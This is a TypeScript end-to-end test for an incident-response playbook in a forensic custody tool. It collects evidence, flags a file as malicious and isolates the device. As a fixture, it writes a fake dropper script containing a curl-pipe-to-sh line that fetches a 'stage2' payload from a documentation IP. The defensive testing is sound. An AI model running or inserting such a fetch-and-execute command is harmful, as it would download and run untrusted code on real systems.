import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CUSTODY_BIN as BIN, LiveBench } from "../../../test/support/live-e2e.ts";
import { createTestNamespace } from "../../../test/support/netns.js";
import type { PlaybookResult } from "../src/playbook.js";

// The playbook as a SOC runs it, every part a real process: `custody serve`, an enrolled agent
// (`custody agent run`) and the example's own built command. Where this machine can make a network
// namespace (root, ip, nft), the agent runs inside one, so the playbook's isolate is real and cuts only
// the namespace off; elsewhere the same run is made with isolation on a verdict it does not reach.
const PLAYBOOK = join(import.meta.dirname, "..", "dist", "main.js");
const CASE = "IR-2026-31";
const net = createTestNamespace("pbk", 214);
const isolating = net.unavailable === undefined;
const bench = new LiveBench(isolating ? { host: net.hostIp, onDevice: (argv) => net.wrap(argv) } : {});
const { work, vault } = bench;
const suspicious = join(work, "invoice.pdf.sh");
let url = "";
let deviceId = "";

const alice = () => bench.custodian();

function run(file: string, args: string[]) {
  const result = spawnSync(process.execPath, [file, ...args], {
    cwd: work,
    env: { ...process.env, CUSTODY_VAULT: vault },
    encoding: "utf8",
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const rita = () => ["--server", url, "--identity", join(work, "rita.pem"), "--ca", join(work, "ca.pem")];

beforeAll(async () => {
  bench.init();
  writeFileSync(suspicious, "#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n");
  const listed = run(BIN, [
    "hashlist",
    "add",
    "known-bad",
    suspicious,
    "--identity",
    join(work, "alice.pem"),
  ]);
  expect(listed.code, listed.stderr).toBe(0);
  await bench.serve(["rita"], CASE);
  url = bench.url;
  deviceId = bench.deviceId;
  await bench.startAgent();
  for (const scope of [`device:${deviceId}`, `case:${CASE}`])
    await alice().grant({ name: "rita", role: "responder", scope });
  // the responder role collects; reading the custody reports it prints is the analyst's
  await alice().grant({ name: "rita", role: "analyst", scope: `case:${CASE}` });
}, 180_000);

afterAll(async () => {
  await bench.close();
  net.remove();
});

describe("examples/ir-playbook against a real server and agent", () => {
  it("collects with the reason, takes and analyzes the file, isolates on a malicious verdict, and names the evidence", async () => {
    if (!isolating) console.warn(`ir-playbook: isolation not exercised (${net.unavailable})`);
    const args = [
      "--device",
      deviceId,
      "--case",
      CASE,
      "--reason",
      "EDR alert 4411: dropper",
      "--file",
      suspicious,
    ];
    const ran = run(PLAYBOOK, [
      ...rita(),
      ...args,
      "--only",
      "SystemInformation,UsersAndGroups",
      ...(isolating ? [] : ["--isolate-on", "suspicious"]),
      "--json",
    ]);
    expect(ran.code, ran.stderr).toBe(0);
    const result = JSON.parse(ran.stdout) as PlaybookResult;
    expect(result.verdict).toBe("malicious");
    expect(result.reasons.join("\n")).toContain("known-bad");
    expect(result.isolation.isolated).toBe(isolating);
    const [pkg, file] = result.evidence;
    expect(pkg?.what).toBe("investigation package");
    expect(file?.what).toBe(`file ${suspicious}`);
    // the file's item is the file, byte for byte
    const sha256 = createHash("sha256").update(readFileSync(suspicious)).digest("hex");
    const item = await alice().show({ id: file?.itemId ?? "", caseId: CASE });
    expect(item.digests.sha256).toBe(sha256);
    // each item's custody report verifies, and the log holds the session's commands with the reason
    for (const evidence of result.evidence) {
      const report = run(BIN, [
        "report",
        evidence.itemId,
        "--case",
        CASE,
        "--out",
        join(work, `${evidence.itemId}.json`),
        ...rita(),
      ]);
      expect(report.code, report.stderr).toBe(0);
      const verified = run(BIN, [
        "report",
        "verify",
        join(work, `${evidence.itemId}.json`),
        "--ca",
        join(work, "ca.pem"),
      ]);
      expect(verified.code, verified.stderr).toBe(0);
    }
    expect(result.commands.map((c) => c.name)).toEqual(
      expect.arrayContaining([
        "collect",
        "fileinfo",
        "getfile",
        "analyze",
        ...(isolating ? ["isolate"] : []),
      ]),
    );
    const audit = JSON.stringify(await alice().showAudit());
    expect(audit).toContain("EDR alert 4411: dropper");
    if (isolating) {
      expect(net.nft("list", "tables")).toContain("custody_isolation");
      expect(net.nft("list", "ruleset")).not.toBe("");
    }
  }, 300_000);

  it("refuses a run without a reason or with an unknown verdict, before opening any session", () => {
    const base = [...rita(), "--device", deviceId, "--case", CASE, "--file", suspicious];
    expect(run(PLAYBOOK, base).code).toBe(2);
    const blank = run(PLAYBOOK, [...base, "--reason", "   "]);
    expect(blank.code).toBe(1);
    expect(blank.stderr).toContain("reason");
    expect(run(PLAYBOOK, [...base, "--reason", "x", "--isolate-on", "evil"]).code).toBe(2);
  });
});
